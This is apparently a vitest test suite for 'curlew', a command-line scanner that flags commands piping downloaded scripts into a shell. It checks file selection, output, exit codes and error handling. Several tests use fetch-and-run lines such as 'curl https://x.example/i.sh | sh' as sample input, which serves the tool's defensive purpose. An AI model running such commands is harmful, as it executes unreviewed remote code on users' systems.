import { execFileSync } from "node:child_process";
import { chmodSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { folderWith } from "./folder-with.js";
import { runHere, fakeDetector } from "./fake-detector.js";

const BAD = "curl https://x.example/i.sh | sh";

describe("the selection of files", () => {
  const scanned = async (cwd: string, ...args: string[]) => {
    const { stdout } = await runHere(["scan", "--format", "jsonl", ...args], { cwd });
    return stdout
      .split("\n")
      .filter(Boolean)
      .map((line) => JSON.parse(line).path as string);
  };

  it("includes files of known types in folders, also hidden ones, in sorted order", async () => {
    const cwd = folderWith({
      "b.md": "b",
      "a.txt": "a",
      ".github/workflows/ci.yml": "x",
      "src/x.py": "x",
      "src/y.ts": "x",
      Dockerfile: "x",
      "Dockerfile.dev": "x",
      Makefile: "x",
      README: "x",
      run: "#!/usr/bin/env bash\n",
      notes: "no script",
      data: "\0\u0001binary",
      ".setting": "no script",
      "page.jsp": "x",
      "a.b.tmpl": "x",
      "photo.png": "x",
      "app.exe": "x",
      ".git/config.md": "x",
    });
    expect(await scanned(cwd, ".")).toEqual([
      ".github/workflows/ci.yml",
      "Dockerfile",
      "Dockerfile.dev",
      "Makefile",
      "README",
      "a.b.tmpl",
      "a.txt",
      "b.md",
      "notes",
      "page.jsp",
      "run",
      "src/x.py",
      "src/y.ts",
    ]);
  });

  it("respects nested .gitignore files and those of the repository above", async () => {
    const cwd = folderWith({
      ".git/HEAD": "",
      ".gitignore": "node_modules\n*.log.md\n!keep.log.md\n/top.md\n",
      "top.md": "x",
      "keep.log.md": "x",
      "a.log.md": "x",
      "sub/.gitignore": "drafts/\n!a.log.md\n",
      "sub/drafts/d.md": "x",
      "sub/a.log.md": "x",
      "sub/top.md": "x",
      "node_modules/p/README.md": "x",
    });
    expect(await scanned(cwd, ".")).toEqual(["keep.log.md", "sub/a.log.md", "sub/top.md"]);
    expect(await scanned(join(cwd, "sub"), ".")).toEqual(["a.log.md", "top.md"]);
    expect(await scanned(cwd, "--no-ignore", "sub")).toEqual([
      "sub/a.log.md",
      "sub/drafts/d.md",
      "sub/top.md",
    ]);
  });

  it("includes every file that an argument names, even if it is ignored, in node_modules or of an unknown type", async () => {
    const cwd = folderWith({
      ".git/HEAD": "",
      ".gitignore": "node_modules\nx.bin\n",
      "node_modules/p/README.md": "x",
      "x.bin": "x\0y",
    });
    expect(await scanned(cwd, "node_modules")).toEqual(["node_modules/p/README.md"]);
    expect(await scanned(cwd, "node_modules/p")).toEqual(["node_modules/p/README.md"]);
    expect(await scanned(cwd, "node_modules/p/README.md", "x.bin")).toEqual([
      "node_modules/p/README.md",
      "x.bin",
    ]);
  });

  it("skips folders of dependencies that Git does not track, and reports it", async () => {
    const cwd = folderWith({
      "a.md": "x",
      "node_modules/p/README.md": BAD,
      "web/node_modules/p/README.md": BAD,
      "env/pyvenv.cfg": "",
      "env/lib/a.py": "x",
      "vendor/own.sh": "x",
    });
    expect(await scanned(cwd, ".")).toEqual(["a.md", "vendor/own.sh"]);
    expect((await runHere(["scan"], { cwd })).stdout).toContain(
      "no findings in 2 texts (3 dependency folders skipped (--include-dependencies)",
    );
    expect(await scanned(cwd, "web/node_modules/p")).toEqual(["web/node_modules/p/README.md"]);
    const all = [
      "a.md",
      "env/lib/a.py",
      "env/pyvenv.cfg",
      "node_modules/p/README.md",
      "vendor/own.sh",
      "web/node_modules/p/README.md",
    ];
    expect(await scanned(cwd, "--include-dependencies", ".")).toEqual(all);
    const git = (...words: string[]) => execFileSync("git", words, { cwd, stdio: "ignore" });
    git("init");
    expect(await scanned(cwd, ".")).toEqual(["a.md", "vendor/own.sh"]);
    git("add", "web");
    expect(await scanned(cwd, ".")).toEqual([
      "a.md",
      "vendor/own.sh",
      "web/node_modules/p/README.md",
    ]);
    writeFileSync(join(cwd, ".gitignore"), "/node_modules\nREADME.md\n");
    expect(await scanned(cwd, ".")).toEqual(["a.md", "vendor/own.sh"]);
    expect(await scanned(cwd, "--include-dependencies", ".")).toEqual(all);
  });

  it("skips and counts binary files in folders", async () => {
    const cwd = folderWith({ "a.md": "x", "b.md": "x\0\x01", "c.exe": "x" });
    const { stdout, status } = await runHere(["scan", "."], { cwd });
    expect(stdout).toBe(
      "no findings in 1 text (1 binary file skipped, 1 file of unknown type skipped)\n",
    );
    expect(status).toBe(0);
  });

  it("does not follow symbolic links in folders", async () => {
    const cwd = folderWith({ "a/x.md": "x" });
    symlinkSync("..", join(cwd, "a", "loop"));
    symlinkSync("x.md", join(cwd, "a", "link.md"));
    expect(await scanned(cwd, ".")).toEqual(["a/x.md"]);
    expect(await scanned(cwd, "a/link.md")).toEqual(["a/link.md"]);
  });

  it("includes standard input for -, or if there is no path and standard input contains text", async () => {
    expect((await runHere(["scan", "-"], { stdin: BAD })).stdout).toContain("<stdin>:1:1:");
    expect((await runHere(["scan"], { stdin: BAD })).status).toBe(1);
    expect((await runHere(["scan"], { cwd: folderWith({ "a.md": BAD }) })).stdout).toContain(
      "a.md:1:1:",
    );
  });

  it("passes the language of a source file to the detector", async () => {
    const formats: (string | undefined)[] = [];
    const detector = {
      ...fakeDetector,
      detect: (text: string, options: { format?: string } = {}) => (
        formats.push(options.format), fakeDetector.detect(text)
      ),
    };
    const cwd = folderWith({
      "a.md": "",
      "b.sh": "",
      "c.py": "",
      Dockerfile: "",
      run: "#!/bin/sh\n",
    });
    await runHere(["scan", "."], { cwd, toolkit: { createDetector: async () => detector } });
    expect(formats).toEqual(["dockerfile", undefined, "bash", "python", "bash"]);
  });
});

describe("the text output", () => {
  it("shows location, rule, excerpt, reason and a safer command", async () => {
    const text = "Install:\n\n    curl -fsSL https://x.example/get/i.sh | sudo bash -s\n";
    const { stdout, status } = await runHere(["scan", "a.md"], {
      cwd: folderWith({ "a.md": text }),
    });
    expect(stdout).toBe(
      [
        "a.md:3:5: bash/fetch-pipe what is fetched is piped into an interpreter",
        "  3 │     curl -fsSL https://x.example/get/i.sh | sudo bash -s",
        "    │     ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^",
        "  why: curl fetches remote content; curl writes to standard output; standard input is the program",
        "  safer: curl -fsSLo i.sh 'https://x.example/get/i.sh'",
        "         less i.sh         # look at what would run",
        "         sha256sum i.sh    # compare with the publisher's checksum or signature",
        "         sudo bash ./i.sh",
        "",
        "1 finding in 1 of 1 text",
        "",
      ]
        .join("\n")
        .replace("    │     ^", "    │     ^"),
    );
    expect(status).toBe(1);
  });

  it("shows each safer command once, and counts findings by rule", async () => {
    const other = "curl https://y.example/j.sh | sh";
    const cwd = folderWith({ "a.md": `${BAD}\n\n${BAD}\n`, "b.md": `${other}\n\n${BAD}\n` });
    const { stdout } = await runHere(["scan", "."], { cwd });
    expect(stdout.match(/less i\.sh/g)).toHaveLength(1);
    expect(stdout.match(/safer: as shown at a\.md:1:1\n/g)).toHaveLength(2);
    expect(stdout.match(/less j\.sh/g)).toHaveLength(1);
    expect(stdout.split("\n").slice(-3)).toEqual([
      "4 bash/fetch-pipe",
      "4 findings in 2 of 2 texts",
      "",
    ]);
    const json = (await runHere(["scan", "--format", "json", "."], { cwd })).stdout;
    expect(JSON.parse(json).summary.rules).toEqual({ "bash/fetch-pipe": 4 });
  });

  it("underlines correctly with wide characters, tabs and several lines", async () => {
    const { stdout } = await runHere(["scan", "-"], {
      stdin: "日本\t🙂 curl https://x.example/i \\\r\n  | sh\r\n",
    });
    expect(stdout).toContain(
      "  1 │ 日本    🙂 curl https://x.example/i \\\n    │            ^^^^^^^^^^^^^^^^^^^^^^^^^^",
    );
    expect(stdout).toContain("  2 │   | sh\n    │ ^^^^^^");
  });

  it("escapes control characters and characters that change the direction of text", async () => {
    const { stdout } = await runHere(["scan", "-"], {
      stdin: `\x1b]0;evil\x07 \u202E ${BAD} \x1b[2J \ud800`,
    });
    expect(stdout).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f\u202e\ud800]/);
    expect(stdout).toContain("␛]0;evil␇");
  });

  it("shortens long lines", async () => {
    const { stdout } = await runHere(["scan", "-"], {
      stdin: `${"x ".repeat(100_000)}${BAD} ${"y".repeat(100_000)}`,
    });
    expect(Math.max(...stdout.split("\n").map((line) => line.length))).toBeLessThan(300);
    expect(stdout).toContain("^".repeat(BAD.length));
  });

  it("shows the steps and the notes with --trace", async () => {
    const { stdout } = await runHere(["scan", "--trace", "-"], { stdin: `NOTE ${BAD}` });
    expect(stdout).toContain(
      "    1. fetch: curl fetches remote content (rule 1) at 1:6 «curl»\n    2. output: curl writes to standard output (rule 2)\n",
    );
    expect(stdout).toContain("<stdin>:1:1: dismissed (comment) it is in a comment «NOTE»");
    expect((await runHere(["scan", "-"], { stdin: "NOTE" })).stdout).toBe(
      "no findings in 1 text\n",
    );
  });

  it("shows only findings with --quiet", async () => {
    expect(await runHere(["scan", "-q", "-"], { stdin: "harmless" })).toEqual({
      status: 0,
      stdout: "",
      stderr: "",
    });
    expect((await runHere(["scan", "-q", "-"], { stdin: BAD })).stdout).not.toContain(
      "1 finding in",
    );
  });

  it("is coloured as the terminal, NO_COLOR, FORCE_COLOR, TERM and --no-color require", async () => {
    const coloured = async (args: string[], env: Record<string, string>, terminal: boolean) =>
      (await runHere(["scan", ...args, "-"], { stdin: BAD, env, terminal })).stdout.includes(
        "\x1b[",
      );
    expect(await coloured([], {}, true)).toBe(true);
    expect(await coloured([], {}, false)).toBe(false);
    expect(await coloured([], { FORCE_COLOR: "1" }, false)).toBe(true);
    expect(await coloured([], { FORCE_COLOR: "0" }, true)).toBe(false);
    expect(await coloured([], { NO_COLOR: "1" }, true)).toBe(false);
    expect(await coloured([], { NO_COLOR: "1", FORCE_COLOR: "1" }, true)).toBe(false);
    expect(await coloured([], { NO_COLOR: "" }, true)).toBe(true);
    expect(await coloured([], { TERM: "dumb" }, true)).toBe(false);
    expect(await coloured(["--no-color"], { FORCE_COLOR: "1" }, true)).toBe(false);
  });
});

describe("the exit status of a scan", () => {
  it.each([
    ["a clean file", ["ok.md"], 0],
    ["findings", ["bad.md"], 1],
    ["an advisory only", ["advisory.md"], 0],
    ["an incompletely analyzed file without findings", ["long.md"], 2],
    ["an incompletely analyzed file beside one with findings", ["long.md", "bad.md"], 1],
    ["a missing file", ["ok.md", "missing.md"], 2],
    ["a missing file beside one with findings", ["bad.md", "missing.md"], 2],
    ["an empty folder", ["empty"], 2],
  ])("of %s (%j) is %i", async (_name, paths, expected) => {
    const cwd = folderWith({
      "ok.md": "x",
      "bad.md": BAD,
      "long.md": "TOO LONG",
      "advisory.md": "ADVISORY",
    });
    mkdirSync(join(cwd, "empty"));
    expect((await runHere(["scan", ...paths], { cwd })).status).toBe(expected);
  });
});

describe("a scan with invalid input or arguments", () => {
  const said = async (args: string[], given: Parameters<typeof runHere>[1] = {}) => {
    const result = await runHere(["scan", ...args], given);
    expect(result.stderr).not.toMatch(/\n\s+at /);
    return result;
  };

  it("reports a missing file and continues", async () => {
    const { stderr, stdout } = await said(["missing.md", "bad.md"], {
      cwd: folderWith({ "bad.md": BAD }),
    });
    expect(stderr).toBe("curlew: missing.md: no such file or folder\n");
    expect(stdout).toContain("1 finding in 1 of 1 text (1 could not be read)");
  });

  it("reports an unreadable folder", async () => {
    const cwd = folderWith({ "a.md": "x", "closed/b.md": "x" });
    chmodSync(join(cwd, "closed"), 0);
    const { stderr, status } = await said(["."], { cwd });
    chmodSync(join(cwd, "closed"), 0o700);
    if (process.getuid?.() !== 0)
      expect([stderr, status]).toEqual(["curlew: closed: permission denied\n", 2]);
    else expect(status).toBe(0);
  });

  it("reports a folder without texts", async () => {
    const cwd = folderWith({ "a/x.exe": "x" });
    expect((await said(["a"], { cwd })).stderr).toBe(
      "curlew: a: contains no file that can be scanned\n",
    );
  });

  it("replaces and reports invalid UTF-8", async () => {
    const stdin = Buffer.concat([Buffer.from([0xff, 0x41, 0xc3, 0x20]), Buffer.from(BAD)]);
    const { stderr, stdout, status } = await said(["-"], { stdin });
    expect(stderr).toMatch(
      /^curlew: <stdin>: not valid UTF-8: undecodable bytes were read as U\+FFFD/,
    );
    expect(stdout).toContain("<stdin>:1:5:");
    expect(status).toBe(1);
  });

  it("reads UTF-16 with a byte order mark", async () => {
    const stdin = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(BAD, "utf16le")]);
    expect((await said(["-"], { stdin })).status).toBe(1);
  });

  it("reads NUL bytes, lone surrogates and empty texts", async () => {
    expect((await said(["-"], { stdin: `a\0b ${BAD}` })).status).toBe(1);
    expect((await said(["-"], { stdin: "" })).stdout).toBe("no findings in 1 text\n");
    const wtf8 = Buffer.from([0xed, 0xa0, 0x80]);
    expect((await said(["-"], { stdin: wtf8 })).stderr).toContain("not valid UTF-8");
  });

  it("rejects a text that is longer than --max-size", async () => {
    const { stderr, status } = await said(["--max-size", "1K", "-"], { stdin: "x".repeat(1025) });
    expect([stderr, status]).toEqual([
      "curlew: <stdin>: longer than 1 KiB (--max-size), not scanned\n",
      2,
    ]);
    expect((await said(["--max-size", "1K", "-"], { stdin: "x".repeat(1024) })).status).toBe(0);
  });

  it.each([
    [["--frobnicate"], "unknown option '--frobnicate'"],
    [["--profile", "lax"], "Allowed choices are contract, extended"],
    [["--format", "xml"], "Allowed choices are text, json, jsonl, sarif, github"],
    [["--offset-encoding", "utf-32"], "Allowed choices are utf-16, codepoint, utf-8"],
    [["--max-size", "huge"], "Write a number of bytes"],
    [["--max-size", "0"], "at least 1 byte"],
    [["--max-size", "99999999G"], "That is too large"],
    [["--deadline", "-1"], "whole number above 0"],
  ])("rejects %j", async (args, message) => {
    const { stderr, status, stdout } = await said([...args, "-"], { stdin: "" });
    expect(stderr).toContain(message);
    expect(stderr).toMatch(/^curlew: /);
    expect([status, stdout]).toEqual([2, ""]);
  });

  it("continues after a text on which the detector fails", async () => {
    const detect: typeof fakeDetector.detect = (text, options) => {
      if (text.includes("BREAK")) throw new Error("out of memory");
      return fakeDetector.detect(text, options);
    };
    const given = {
      cwd: folderWith({ "a.md": "BREAK", "b.md": BAD }),
      toolkit: { createDetector: async () => ({ ...fakeDetector, detect }) },
    };
    const { stdout, status } = await said(["."], given);
    expect(stdout).toContain(
      "a.md:1:1: not fully analyzed (failed) analysis failed: out of memory\n",
    );
    expect(stdout).toContain("1 finding in 1 of 2 texts (1 could not be analyzed)");
    expect(status).toBe(2);
    expect((await said(["a.md"], given)).status).toBe(2);
    const batch = await runHere(["batch", "--predictions", "-"], {
      ...given,
      stdin: '{"text":"BREAK"}\n{"text":"fine"}\n',
    });
    expect(
      batch.stdout
        .split("\n")
        .slice(0, 2)
        .map((line) => JSON.parse(line).outcome.status),
    ).toEqual(["incomplete", "complete"]);
  });

  it("shows only the message for an invalid query file", async () => {
    const createDetector = async () => {
      throw new Error("mine/broken.scm:3:1: unknown capture @sorce.fetcher");
    };
    const result = await said(["-"], { stdin: "", toolkit: { createDetector } });
    expect(result).toEqual({
      status: 2,
      stdout: "",
      stderr: "curlew: mine/broken.scm:3:1: unknown capture @sorce.fetcher\n",
    });
  });
});

describe("help", () => {
  it.each([
    [["--help"]],
    [["scan", "--help"]],
    [["batch", "--help"]],
    [["rules", "--help"]],
    [["explain", "--help"]],
    [["help", "scan"]],
  ])("%j shows examples", async (args) => {
    const { stdout, stderr, status } = await runHere(args);
    expect(stdout).toMatch(/Examples:\n {2}\$ curlew /);
    expect([stderr, status]).toEqual(["", 0]);
  });

  it.each([
    [["help", "hook", "install"], 0, "Usage: curlew hook install "],
    [["help", "hook"], 0, "Usage: curlew hook "],
    [["help", "hook", "instal"], 0, "Usage: curlew hook "],
    [["help", "hok", "install"], 0, "Usage: curlew [options] [command]"],
  ])("%j describes the most specific known command", async (args, expected, text) => {
    const { stdout, stderr, status } = await runHere(args);
    expect(stdout + stderr).toContain(text);
    expect(status).toBe(expected);
  });

  it("is suggested with a similar name for an unknown command", async () => {
    const { stderr, status } = await runHere(["scann"]);
    expect(stderr).toMatch(/^curlew: unknown command 'scann'[\s\S]*Did you mean scan\?/);
    expect(status).toBe(2);
  });

  it("is printed if there is no command, and --version prints the version", async () => {
    expect((await runHere(["--version"])).stdout).toBe("0.0.0\n");
    const { stderr, status } = await runHere([]);
    expect(stderr).toContain("Usage: curlew");
    expect(status).toBe(2);
  });
});
